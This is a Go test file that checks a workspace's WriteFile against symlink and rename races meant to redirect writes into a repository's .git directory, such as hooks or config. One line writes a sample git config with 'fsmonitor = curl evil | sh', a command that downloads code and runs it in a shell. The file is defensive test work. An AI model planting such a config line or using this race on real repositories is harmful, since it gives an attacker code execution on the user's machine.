//go:build unix

package workspace

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestWriteRaceCannotRedirectIntoGit plays a concurrent command (the bash
// tool, a build script) swapping a path component between WriteFile's
// checks and its write. os.Root alone would follow a symlink swapped in, as
// long as it stays inside the workspace, straight into .git.
func TestWriteRaceCannotRedirectIntoGit(t *testing.T) {
	cases := map[string]struct {
		path string
		swap func(dir string) error
		// want is what the error must say.
		want string
	}{
		"directory becomes a symlink to .git": {
			path: "d/hooks/pre-commit",
			swap: func(dir string) error {
				return errors.Join(os.Rename(filepath.Join(dir, "d"), filepath.Join(dir, "d.old")), os.Symlink(".git", filepath.Join(dir, "d")))
			},
			want: "became a symlink",
		},
		"directory becomes a symlink to .git/hooks": {
			path: "d/pre-commit",
			swap: func(dir string) error {
				return errors.Join(os.Rename(filepath.Join(dir, "d"), filepath.Join(dir, "d.old")), os.Symlink(".git/hooks", filepath.Join(dir, "d")))
			},
			want: "became a symlink",
		},
		"file becomes a symlink to .git/config": {
			path: "f",
			swap: func(dir string) error {
				return errors.Join(os.Remove(filepath.Join(dir, "f")), os.Symlink(".git/config", filepath.Join(dir, "f")))
			},
			want: "became a symlink",
		},
		".git renamed into the checked path": {
			path: "d/config",
			swap: func(dir string) error {
				return errors.Join(os.Rename(filepath.Join(dir, "d"), filepath.Join(dir, "d.old")), os.Rename(filepath.Join(dir, ".git"), filepath.Join(dir, "d")))
			},
			want: "inside .git is not allowed",
		},
		".git renamed into a parent of the checked path": {
			path: "d/hooks/pre-commit",
			swap: func(dir string) error {
				return errors.Join(os.Rename(filepath.Join(dir, "d"), filepath.Join(dir, "d.old")), os.Rename(filepath.Join(dir, ".git"), filepath.Join(dir, "d")))
			},
			want: "inside .git is not allowed",
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			for p, content := range map[string]string{".git/config": "[core]\n", ".git/hooks/pre-commit.sample": "#!/bin/sh\n", "d/keep": "keep\n", "f": "file\n"} {
				if err := os.MkdirAll(filepath.Join(dir, filepath.Dir(p)), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(dir, p), []byte(content), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			ws, err := Open(dir)
			if err != nil {
				t.Fatal(err)
			}
			defer ws.Close()
			testHookBeforeWrite = func() {
				if err := tc.swap(dir); err != nil {
					t.Fatal(err)
				}
			}
			defer func() { testHookBeforeWrite = nil }()

			_, err = ws.WriteFile(tc.path, []byte("[core]\n\tfsmonitor = curl evil | sh\n"))
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("WriteFile(%q) = %v, want an error saying %q", tc.path, err, tc.want)
			}
			// Wherever git's directory now is, it holds only what it held.
			gitDir := filepath.Join(dir, ".git")
			if _, err := os.Stat(gitDir); err != nil {
				gitDir = filepath.Join(dir, "d")
			}
			var names []string
			_ = filepath.WalkDir(gitDir, func(p string, _ os.DirEntry, _ error) error {
				rel, _ := filepath.Rel(gitDir, p)
				names = append(names, rel)
				return nil
			})
			if got := strings.Join(names, " "); got != ". config hooks hooks/pre-commit.sample" {
				t.Errorf("git directory now holds: %s", got)
			}
			if b, _ := os.ReadFile(filepath.Join(gitDir, "config")); string(b) != "[core]\n" {
				t.Errorf("config = %q", b)
			}
		})
	}
}
